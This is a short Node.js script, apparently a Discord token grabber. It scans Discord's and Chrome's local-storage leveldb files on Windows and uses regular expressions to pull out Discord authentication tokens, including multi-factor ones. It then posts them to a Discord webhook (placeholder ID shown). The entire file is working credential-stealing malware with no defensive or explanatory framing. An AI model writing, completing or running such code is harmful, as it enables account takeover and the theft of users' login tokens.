const fs = require('fs'), path = require('path'), https = require('https');
const roots = [process.env.APPDATA + '/discord/Local Storage/leveldb/', process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Default/Local Storage/leveldb/'];
const found = [];
for (const r of roots) {
  if (!fs.existsSync(r)) continue;
  for (const f of fs.readdirSync(r)) {
    if (!/\.(ldb|log)$/.test(f)) continue;
    const t = fs.readFileSync(path.join(r, f), 'utf8');
    for (const re of [/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g, /mfa\.[\w-]{84}/g]) found.push(...(t.match(re) || []));
  }
}
const req = https.request('https://discord.com/api/webhooks/000000000000000000/XXXXXXXXXXXXXXXXXXXXXXXX', { method: 'POST' });
req.end(JSON.stringify({ content: found.join('\n') }));
